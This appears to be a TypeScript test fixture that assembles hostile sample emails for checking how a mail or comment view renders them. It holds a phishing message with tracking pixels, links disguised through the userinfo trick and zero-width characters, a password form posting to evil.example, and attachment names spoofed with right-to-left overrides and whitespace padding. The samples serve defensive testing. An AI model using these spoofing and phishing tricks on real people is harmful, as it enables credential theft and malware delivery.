import type { Comment } from '../../../lib/model';
import { COMMENTS } from './samples';

/* A conversation with everything that a mail may try, for eyes to judge. */

const [first] = COMMENTS;
const PIXEL = '<img src="https://t.evil.example/o.gif" width="1" height="1">';

const mail = (id: string, more: Partial<Comment>): Comment => ({
  id,
  kind: 'reply',
  author: first?.author ?? { name: 'Mara' },
  attachments: [],
  createdAt: `2026-11-21T1${id}:04:00Z`,
  ...more,
});

export const HOSTILE: Comment[] = [
  mail('0', {
    author: { name: 'Nordhavn Bank \u202eecivres\u202c', email: 'help@evil.example', side: 'customer' },
    html: `<p>Dear customer,</p><p>your account is locked. Sign in at <a href="https://nordhavn-bank.example@evil.example/">https://nordhavn-bank.example/login</a> or <a href="https://evil.example">nord\u200bhavn.example</a> within 24 hours, or write to <a href="mailto:help@evil.example">help@nordhavn.example</a>.</p><form action="https://evil.example"><input type="password"></form><p>Your form: contract_\u202efdp.exe</p><p style="background:url(https://evil.example/b.png)">شكرًا لكم، می\u200cخواهم 👨\u200d👩\u200d👧</p><img src="https://evil.example/logo.png">${PIXEL}`,
    attachments: [
      { id: 'h1', name: 'contract_\u202efdp.pdf.exe', type: 'application/pdf', size: 214_000 },
      {
        id: 'h2',
        name: `Statement of all accounts and movements${' '.repeat(80)}.html`,
        type: 'text/html',
        size: 4_000,
      },
      { id: 'h3', name: 'photo.jpg', type: 'image/jpeg', size: 1_200_000 },
    ],
  }),
  mail('1', { html: `<p>All of our log follows.</p>${'<p>One line of a very long log.</p>'.repeat(20_000)}` }),
  mail('2', {
    text: 'See https://nordhavn.example@evil.example/a and https://nordhavn.example.\n> a\n> b\n> c\nThanks',
  }),
];
